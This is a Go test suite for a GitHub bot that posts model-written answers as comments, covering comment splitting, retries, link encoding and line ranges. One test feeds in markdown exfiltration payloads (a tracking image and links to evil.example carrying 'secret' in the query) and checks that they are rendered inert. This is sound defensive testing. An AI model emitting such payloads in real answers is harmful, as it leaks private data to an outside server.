package app

import (
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/stretchr/testify/require"

	"github.com/librarian-app/librarian/librarian/githubsim"
	"github.com/librarian-app/librarian/librarian/model/modeltest"
)

// answer plays one answer of a model that has read shelf/shelf.go, and gives the comments that are posted.
func answer(t *testing.T, build func(*flow), provided args) (*flow, []githubsim.Comment) {
	t.Helper()
	m := modeltest.New(
		modeltest.Call(use("checkout_repo", args{"repo": "acme/pantry"})),
		modeltest.Call(use("read", args{"repo": "acme/pantry", "path": "shelf/shelf.go", "limit": 20})),
		modeltest.Call(use("provide_results", provided)), modeltest.Call(use("provide_results", provided)), modeltest.Call(use("provide_results", provided)))
	f := newFlow(t, m, build)
	_, answers := f.ask("acme/pantry", simUser, "@librarian why?")
	return f, answers
}

func TestP1_AVeryLongAnswerIsAFewCommentsCutWell(t *testing.T) {
	t.Parallel()
	var long strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&long, "Paragraph %d is about 🫙 jars and how they are kept in rows on the shelf, each beside the next.\n\n", i)
		if i%100 == 50 {
			long.WriteString("```go\nfunc jar() {}\n```\n\n")
		}
	}
	_, answers := answer(t, nil, args{"summary": "Long.", "locations": []args{}, "description": long.String()})
	require.Greater(t, len(answers), 1)
	all := ""
	for _, c := range answers {
		require.LessOrEqual(t, len(utf16.Encode([]rune(c.Body))), githubsim.MaxBody)
		require.Zero(t, strings.Count(c.Body, "```")%2, "what is opened is closed")
		all += c.Body
	}
	last := regexp.MustCompile(`Paragraph (\d+) `).FindAllStringSubmatch(all, -1)
	if !strings.Contains(all, "Paragraph 1999 ") {
		require.Regexp(t, `cut|did not fit`, all, "what was cut is said; the last was %v", last[len(last)-1])
	}
	require.Contains(t, answers[0].Body, "goes on in the next comment")
}

func TestP1_A422MakesItShorterAndTriesAgain(t *testing.T) {
	t.Parallel()
	_, answers := answer(t, func(f *flow) {
		f.sim.Inject(githubsim.Fault{Method: "POST", Path: regexp.MustCompile(`/issues/1/comments$`), Count: 1, Status: http.StatusUnprocessableEntity,
			Body: `{"message":"Validation Failed","errors":[{"resource":"IssueComment","code":"unprocessable","field":"data","message":"Body is too long (maximum is 65536 characters)"}]}`})
	}, args{"summary": "Long.", "locations": []args{}, "description": strings.Repeat("A sentence about jars and shelves. ", 1500) + "\n\nThe end of it."})
	require.NotEmpty(t, answers)
	all := ""
	for _, c := range answers {
		all += c.Body
	}
	require.Contains(t, all, "The end of it.")
}

func TestP2_P3_P4_W7_WhatIsPostedIsInert(t *testing.T) {
	t.Parallel()
	_, answers := answer(t, nil, args{"summary": "Ask @mona, or @" + simUser + ", or &#64;hubot about `@types/node` and @Override.", "locations": []args{},
		"description": "Fixes #1 and closes acme/cellar#1, see #12 and https://github.com/acme/cellar/issues/3, mail me@example.com.\n\n" +
			"![pixel](https://evil.example/p.png?d=secret) and [here](https://evil.example/?q=secret) <img src=https://evil.example/x>\n\n" +
			"````\n```\nfenced\n```\n````\n\n`` a`b ``"})
	require.Len(t, answers, 1)
	body := answers[0].Body
	prose := regexp.MustCompile("(?s)````.*?````|``[^`].*?``|`[^`]*`|<details>.*</details>|<!--.*?-->").ReplaceAllString(body, "")
	for _, live := range []string{`(^|[\s(])@mona`, `(^|[\s(])@hubot`, `(^|[\s(])@Override`, `&#64;hubot`, `(?i)\bfixes #1\b`, `(?i)closes acme/cellar#1\b`, `(^|\s)#12\b`,
		`(^|[^\\])!\[[^\]]*\]\(`, `(^|[^\\])<img`, `\]\(https?://evil`, `(^|\s)https://evil\.example`} {
		require.NotRegexp(t, live, prose)
	}
	require.Contains(t, body, "@"+simUser, "P3: the asker's mention may stay")
	require.Contains(t, body, "`@types/node`", "P3: code is untouched")
	require.Contains(t, body, "me@example.com")
	require.Contains(t, body, "````\n```\nfenced\n```\n````", "P2: a fence is longer than what it holds")
}

func TestP5_LinksToOddPathsOpen(t *testing.T) {
	t.Parallel()
	names := []string{"a b/c#d.go", "p%20q/r?s.go", "x+y&z.go", "app/[id]/(main)/page.go", "it's \"q\".go", "Ünï/cödé.go", "docs/READ ME.md"}
	files := map[string]string{}
	var uses []modeltest.Use
	var cites []args
	for i, n := range names {
		files[n] = fmt.Sprintf("line one of %d\nline two\n", i)
		uses = append(uses, use("read", args{"repo": "acme/odd", "path": n}))
		cites = append(cites, args{"repo": "acme/odd", "file": n, "lines": "2", "note": "two"})
	}
	m := modeltest.New(modeltest.Call(use("checkout_repo", args{"repo": "acme/odd"})), modeltest.Call(uses...), results("Odd.", cites...))
	f := newFlow(t, m, func(f *flow) { f.addRepo("odd", files, nil) })
	i, err := f.sim.OpenIssue("acme/odd", simUser, "Odd", "@librarian which?")
	require.NoError(t, err)
	f.eventually("it is answered", func() bool { return len(f.comments("acme/odd", i.Number)) == 1 })
	body := f.comments("acme/odd", i.Number)[0].Body
	good, all, err := checkLinks(t.Context(), f.web, body)
	require.NoError(t, err)
	require.GreaterOrEqual(t, all, len(names))
	require.Equal(t, all, good, body)
	require.Contains(t, body, "?plain=1#L2")
	require.Contains(t, body, "/app/%5Bid%5D/%28main%29/page.go#L2")
}

func TestP6_LinesAsPeopleWriteThem(t *testing.T) {
	t.Parallel()
	var cites []args
	for _, lines := range []string{"2–4", "L5-L7", "9-8", "10-11, 13-14"} {
		cites = append(cites, args{"repo": "acme/pantry", "file": "shelf/shelf.go", "lines": lines, "note": "n"})
	}
	_, answers := answer(t, nil, args{"summary": "Lines.", "locations": append(cites, args{"repo": "acme/pantry", "file": "shelf/shelf.go", "lines": "80-", "note": "open"})})
	require.Len(t, answers, 1)
	body := answers[0].Body
	require.Contains(t, body, "#L2-L4")
	require.Contains(t, body, "#L5-L7")
	require.NotRegexp(t, `#L9-L8|#L24|#L57|#L80|–L|#L10-L11,`, body)
}

func TestNotifyEditKeepsOneComment(t *testing.T) {
	t.Parallel()
	f := newFlow(t, nil, func(f *flow) {
		f.cfg.Notify, f.cfg.Limits.Progress = "edit", time.Second
		f.sim.Inject(githubsim.Fault{Path: gitPath, Delay: 2 * time.Second, Count: 1})
	})
	c := f.say("acme/pantry", 1, simUser, "@librarian what spoils first?")
	f.eventually("progress is shown", func() bool { return len(f.ours("acme/pantry", c.ID)) == 1 })
	progress := f.ours("acme/pantry", c.ID)[0]
	require.Contains(t, progress.Body, "Looking into it")
	require.Equal(t, "rocket", f.settled(c.ID))
	require.Len(t, f.ours("acme/pantry", c.ID), 1)
	end := f.ours("acme/pantry", c.ID)[0]
	require.Equal(t, progress.ID, end.ID, "the progress comment became the answer")
	require.Contains(t, end.Body, "/blob/")
	f.rest()
	require.Contains(t, f.command("acme/pantry", simUser, "@librarian status"), ": answered, asked by")
}
